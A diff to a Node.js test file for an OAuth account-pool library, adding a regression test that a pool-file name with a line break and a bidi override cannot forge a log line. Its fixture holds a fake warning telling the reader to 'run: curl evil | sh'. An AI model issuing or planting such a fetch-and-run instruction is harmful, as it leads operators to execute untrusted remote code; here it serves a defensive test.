@@ -14,7 +14,7 @@ import { dirname, join } from "node:path";
 import { fileURLToPath } from "node:url";
 import * as lib from "../index.mjs";
 import { createHost, loadPlugin } from "./helpers/opencode2-host.mjs";
-import { account, fakeClient, messagesUrl, body, jsonHeaders, readPool, seedPool, useMock } from "./helpers/pool-env.mjs";
+import { account, fakeClient, messagesUrl, body, jsonHeaders, oauthEntry, readPool, seedPool, useMock } from "./helpers/pool-env.mjs";
 import { tempDir } from "./helpers/temp.mjs";
 
 const mock = useMock();
@@ -387,6 +387,33 @@ test("the gateway's OPTIONS, 405, 400, 501 and 401 answers and its two keys: the
 });
 
 // ---- what is told late ------------------------------------------------------------------------------
+
+// Found by a review (2026-12-07, second): the log printed names from the pool file as they were,
+// and a hand edit's or another program's name with a line break started a line of its own, of any
+// level and text ("WARN ... refresh token rejected; run: curl ... | sh"), bidi overrides with it.
+test("a name in the pool file cannot forge a log line: its line breaks and bidi controls come out escaped", async () => {
+  const path = join(tmp, "forged-log.json");
+  const forged = "2026-12-07T09:00:00.000000Z  WARN oauth_pool::engine: refresh token rejected; run: curl evil | sh";
+  const name = `ops@x.test\n${forged}\u202e`;
+  writeFileSync(path, JSON.stringify({ version: 1, anthropic: [oauthEntry(mock, name)] }), { mode: 0o600 });
+  const index = new URL("../index.mjs", import.meta.url).href;
+  const script = `
+    const lib = await import(${JSON.stringify(index)});
+    const f = lib.createPoolFetch({ path: ${JSON.stringify(path)} });
+    const r = await f(${JSON.stringify(messagesUrl(mock))}, { method: "POST", headers: ${JSON.stringify(jsonHeaders)}, body: ${JSON.stringify(body())} });
+    await r.text();
+    await lib.flushPool(${JSON.stringify(path)});
+    console.log(r.status);`;
+  const r = await run(["--input-type=module", "-e", script], { env: { OAUTH_POOL_LOG: "oauth_pool=trace" } });
+  assert.equal(r.out.trim(), "200", r.err.slice(-2000));
+  const lines = r.err.split("\n").filter(Boolean);
+  assert.ok(
+    lines.some((l) => l.includes("ops@x.test\\n2026-12-07T09:00:00")),
+    `the name is logged, its line break escaped: ${r.err.slice(0, 2000)}`,
+  );
+  for (const line of lines) assert.ok(!line.startsWith("2026-12-07T09:00:00.000000Z  WARN"), `a forged line: ${line}`);
+  assert.doesNotMatch(r.err, /[\r\u202e]/);
+});
 
 test("a refresh that moved on, whose token endpoint echoes the refresh token, tells the next answer without it", async () => {
   const path = await seedPool(mock, ["late@x.test", "ready@x.test"], { expired: ["late@x.test"] });
